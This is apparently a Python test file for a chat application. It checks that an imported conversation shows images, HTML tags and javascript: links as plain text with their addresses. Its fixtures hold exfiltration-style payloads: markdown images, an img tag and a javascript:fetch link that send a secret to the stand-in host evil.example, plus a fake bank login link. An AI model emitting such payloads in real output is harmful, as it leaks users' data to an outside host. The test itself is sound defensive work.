"""An imported conversation whose messages carry images, HTML and `javascript:` links: the page
writes them as text, with their addresses, never as something to fetch or run."""

from __future__ import annotations

from docchat.web.safe_markdown import link_allowed

from tests.hostile_text import CONVERSATION_ID, SECRET, hostile_export, markdown_tokens, shown_text

BASE = "https://evil.example"


def _open_imported(services, chat_page):
    services.transfer.import_bytes(hostile_export(BASE), name="harbour-trust.json")
    return chat_page(CONVERSATION_ID)


def _every_markdown(page) -> list[str]:
    return [element.value for element in page.markdown] + [element.value for element in page.caption]


def test_an_imported_conversation_shows_no_image_no_html_and_no_foreign_link(chat_page, services):
    page = _open_imported(services, chat_page)

    for markdown in _every_markdown(page):
        kinds = {token.type for token in markdown_tokens(markdown)}
        assert not kinds & {"image", "html_inline", "html_block"}, markdown
        assert all(link_allowed(t.attrs["href"]) for t in markdown_tokens(markdown) if t.type == "link_open"), markdown


def test_the_imported_question_and_answer_show_each_address_as_text(chat_page, services):
    page = _open_imported(services, chat_page)

    question, answer = (shown_text(message.markdown[0].value) for message in page.chat_message)
    assert f"image not loaded: chart — {BASE}/inline.png?q={SECRET}" in question
    assert f'<img src="{BASE}/img-tag.png?q={SECRET}">' in question
    assert f"image not loaded: logo — {BASE}/reference.png?q={SECRET}" in answer
    assert "image not loaded: p — //evil.example/protocol-relative.png" in answer
    assert f'<iframe src="{BASE}/iframe"></iframe>' in answer
    assert f"Open the trust deed [link blocked: javascript:fetch('{BASE}/javascript?q={SECRET}')]" in answer
    assert f"your bank ({BASE}/login)" in answer


def test_the_answer_keeps_its_citation_link_and_the_search_query_is_shown_as_written(chat_page, services):
    page = _open_imported(services, chat_page)

    answer = page.chat_message[1]
    links = [t.attrs["href"] for t in markdown_tokens(answer.markdown[0].value) if t.type == "link_open"]
    assert f"?c={CONVERSATION_ID}&s=a1b2c3d4-0000-4000-8000-000000000002.1" in links
    assert any(shown_text(c.value) == f"Searched as: Determination Date ![q]({BASE}/rewritten.png)"
               for c in answer.caption)


def test_the_imported_title_is_shown_as_written_in_the_header_and_the_sidebar(chat_page, services):
    page = _open_imported(services, chat_page)

    title = f"Harbour Trust ![t]({BASE}/title.png)"
    assert shown_text(page.header[0].value) == title
    assert [shown_text(b.label) for b in page.sidebar.button if b.key.startswith("sidebar_open_")] == [title]
